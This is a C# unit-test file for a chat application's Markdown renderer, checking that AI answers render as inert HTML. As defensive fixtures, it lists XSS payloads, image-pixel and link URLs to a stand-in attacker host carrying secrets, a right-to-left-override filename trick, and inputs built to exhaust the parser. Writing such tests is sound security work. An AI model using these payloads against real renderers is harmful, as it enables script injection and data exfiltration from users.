extern alias web;

using System.Text.RegularExpressions;
using web::ChatSphere.Web.Text;

namespace ChatSphere.Tests.Web;

/// <summary>An answer is text that nobody has vouched for. Whatever it says, it renders as HTML that loads nothing, runs nothing and leads nowhere.</summary>
public sealed partial class RenderingAnswersTests
{
    private static readonly string[] Tags =
    [
        "p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "strong", "em", "del", "code", "pre", "div", "span", "button", "bdi", "table", "thead",
        "tbody", "tr", "th", "td", "col", "colgroup",
    ];

    [Theory]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java\nscript:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD4=)")]
    [InlineData("[x](vbscript:msgbox)")]
    [InlineData("[x](https://evil.example/?d=secret \"title\")")]
    [InlineData("![x](https://evil.example/p.png?d=secret)")]
    [InlineData("![x](data:image/svg+xml,<svg onload=alert(1)>)")]
    [InlineData("[![x](https://evil.example/p.png)](https://evil.example)")]
    [InlineData("[x][1]\n\n[1]: javascript:alert(1)")]
    [InlineData("![x][pixel]\n\n[pixel]: https://evil.example/p.png")]
    [InlineData("<https://evil.example/?d=secret>")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<me@evil.example>")]
    [InlineData("https://evil.example/?d=secret www.evil.example")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("a <img src=x onerror=alert(1)> b")]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<div onclick=alert(1)>\n\n**x**\n\n</div>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<style>@import 'https://evil.example'</style>")]
    [InlineData("<!-- --><iframe src=https://evil.example></iframe>")]
    [InlineData("# x {onclick=alert(1)}\n\n[x](y){style=color:red onclick=alert(1)}")]
    [InlineData("```\"><script>alert(1)</script>\nx\n```")]
    [InlineData("```js\n</code></pre><script>alert(1)</script>\n```")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;")]
    [InlineData("\"'><script>alert(1)</script>")]
    public void Nothing_in_it_runs_or_loads_or_leads_anywhere(string text) => AssertInert(Html(text));

    [Fact]
    public void An_address_stays_readable_as_text()
    {
        Assert.Contains("https://evil.example/?d=secret", Html("[the policy](https://evil.example/?d=secret)"), StringComparison.Ordinal);
        Assert.StartsWith("<p>the policy ", Html("[the policy](https://evil.example/?d=secret)"), StringComparison.Ordinal);
        Assert.DoesNotContain("https://evil.example https", Html("<https://evil.example>"), StringComparison.Ordinal);
    }

    [Fact]
    public void Html_shows_as_what_was_written() =>
        Assert.Contains("&lt;img src=x onerror=alert(1)&gt;", Html("<img src=x onerror=alert(1)>"), StringComparison.Ordinal);

    [Theory]
    [InlineData("abc\u202Egpj.exe")]
    [InlineData("[x](https://example.org/\u202Egpj.exe)")]
    [InlineData("`access\u202E level\u2066`")]
    [InlineData("```\nif (x \u202E } \u2066)\n```")]
    public void Characters_that_reorder_text_are_dropped(string text) => Assert.DoesNotMatch(@"[\u202A-\u202E\u2066-\u2069]", Html(text));

    [Theory]
    [InlineData("In 30 days [1].", "1")]
    [InlineData("In 30 days [1], unused [2].", "1 2")]
    [InlineData("In 30 days [1][2].", "1 2")]
    [InlineData("In 30 days [1, 2].", "1 2")]
    [InlineData("**In 30 days [1]**, *unused* [2](https://x.example)", "1")]
    [InlineData("- a [1]\n- b [2]", "1 2")]
    [InlineData("| a |\n|---|\n| b [2] |", "2")]
    [InlineData("A [12] and [x] and [1", "")]
    [InlineData("`a[1]` and\n\n```c\nb[2] = 1;\n```", "")]
    [InlineData("In 30 days [1].\n\n[1]: https://evil.example/", "1")]
    public void Markers_of_real_sources_become_chips(string text, string expected) =>
        Assert.Equal(expected, string.Join(' ', Chip().Matches(Html(text)).Select(m => m.Groups[1].Value)));

    [Fact]
    public void A_marker_without_a_source_stays_text() => Assert.Contains("days [9].", Html("In 30 days [9]."), StringComparison.Ordinal);

    [Fact]
    public void A_marker_beside_one_without_a_source_keeps_its_words()
    {
        Assert.Contains("[1, 9]", Html("In 30 days [1, 9]."), StringComparison.Ordinal);
        Assert.Equal("<p>a b [9] c</p>", Html("a b [9] c"));
    }

    public static TheoryData<string, string> Bombs => new()
    {
        { "quotes", string.Concat(Enumerable.Repeat("> ", 5_000)) + "x" },
        { "quotes without spaces", new string('>', 5_000) },
        { "stars", new string('*', 100_000) },
        { "stars and letters", string.Concat(Enumerable.Repeat("*a ", 30_000)) },
        { "open stars", string.Concat(Enumerable.Repeat("**a", 6_000)) },
        { "backticks", new string('`', 100_000) },
        { "growing backticks", string.Join(' ', Enumerable.Range(1, 390).Select(n => new string('`', n))) },
        { "brackets", new string('[', 100_000) },
        { "pairs of brackets", string.Concat(Enumerable.Repeat("[a](", 5_000)) },
        { "lists", string.Join('\n', Enumerable.Range(0, 2_000).Select(n => new string(' ', n * 2 % 4_000) + "- x")) },
        { "nested list markers", string.Concat(Enumerable.Repeat("- ", 3_000)) + "x" },
        { "a wide table", string.Join('\n', Enumerable.Repeat(string.Concat(Enumerable.Repeat("|a", 1_000)) + "|", 1_000)) },
        { "a table of the largest size taken", "|a|b|\n|-|-|\n" + string.Concat(Enumerable.Repeat("|a|b|\n", 6_000)) },
        { "entities", string.Concat(Enumerable.Repeat("&amp", 20_000)) },
        { "definitions", string.Concat(Enumerable.Range(0, 9_000).Select(n => $"[a{n}]: x\n")) },
        { "long", new string('x', 250_000) },
        { "many lines", string.Concat(Enumerable.Repeat("a\n", 90_000)) },
        { "underscores", string.Concat(Enumerable.Repeat("_a_b", 15_000)) },
        { "citations", string.Concat(Enumerable.Repeat("[1]", 6_000)) },
        { "angles", string.Concat(Enumerable.Repeat("<a ", 30_000)) },
        { "code", "```js\n" + string.Concat(Enumerable.Repeat("\"\\\"'/*", 3_000)) },
    };

    [Theory]
    [MemberData(nameof(Bombs))]
    public void What_is_built_to_exhaust_comes_out_inert_and_bounded(string kind, string text)
    {
        _ = kind;
        var html = Html(text);
        AssertInert(html);

        // A chip is the longest thing that a few characters become.
        Assert.InRange(html.Length, 0, 1_000 + (120 * text.Length));
    }

    [Theory]
    [InlineData("Text and **bo", "<p>Text and <strong>bo</strong></p>")]
    [InlineData("Text and **", "<p>Text and</p>")]
    [InlineData("Text and `co", "<p>Text and <code>co</code></p>")]
    [InlineData("Within 30 days [", "<p>Within 30 days</p>")]
    [InlineData("Within 30 days [1", "<p>Within 30 days</p>")]
    [InlineData("Text\n-", "<p>Text</p>")]
    [InlineData("Text\n\n#", "<p>Text</p>")]
    [InlineData("Text\n\n1.", "<p>Text</p>")]
    [InlineData("Text\n\n```", "<p>Text</p>")]
    [InlineData("Text\n\n| a | b |", "<p>Text</p>")]
    [InlineData("Text\n\n| a | b |\n|--", "<p>Text</p>")]
    public void A_growing_answer_shows_nothing_that_the_next_word_would_take_back(string text, string expected) =>
        Assert.Equal(expected, string.Concat(SafeMarkdown.Render(text, IsSource, growing: true)).Replace("\n", "", StringComparison.Ordinal));

    [Fact]
    public void Every_beginning_of_an_answer_renders_and_earlier_blocks_stay_as_they_are()
    {
        const string whole =
            "Customers may return an item **within 30 days** [1].\n\n### Unused\n\n1. The seal is *intact*.\n2. No traces, see `check(x)`.\n   - Tags\n\n"
            + "| Kind | Days |\n|---|---|\n| Clothing | 30 |\n\n```python\ndef f(x):\n    return x <= 30\n```\n\n> Quoted [2].\n\nThe end.";
        IReadOnlyList<string> before = [];
        for (var length = 1; length <= whole.Length; length++)
        {
            var blocks = SafeMarkdown.Render(whole[..length], IsSource, growing: true);
            AssertInert(string.Concat(blocks));
            // All but the last block are settled; that is what lets a growing answer send only its end.
            for (var i = 0; i < Math.Min(before.Count, blocks.Count) - 1; i++)
            {
                Assert.Equal(before[i], blocks[i]);
            }

            before = blocks;
        }

        Assert.Equal(SafeMarkdown.Render(whole, IsSource), before);
    }

    private static bool IsSource(int number) => number is 1 or 2;

    private static string Html(string text) => string.Concat(SafeMarkdown.Render(text, IsSource)).TrimEnd();

    /// <summary>Only known tags, with only the attributes that the renderer itself writes.</summary>
    private static void AssertInert(string html)
    {
        foreach (Match tag in Tag().Matches(html))
        {
            Assert.Contains(tag.Groups[1].Value, Tags);
            var attributes = tag.Groups[2].Value;
            Assert.DoesNotMatch(@"(?i)\s(?!class=|data-cite=""\d+""|aria-label=""Source \d+""|type=""button""|tabindex=""0""|dir=""ltr""|start=""\d+"")[a-z-]+\s*=", attributes);
        }

        Assert.DoesNotMatch("<(?!/?[a-z])", html);
    }

    [GeneratedRegex("""<([a-zA-Z][^\s>/]*)((?:[^>"]|"[^"]*")*)>""")]
    private static partial Regex Tag();

    [GeneratedRegex("data-cite=\"(\\d+)\"")]
    private static partial Regex Chip();
}
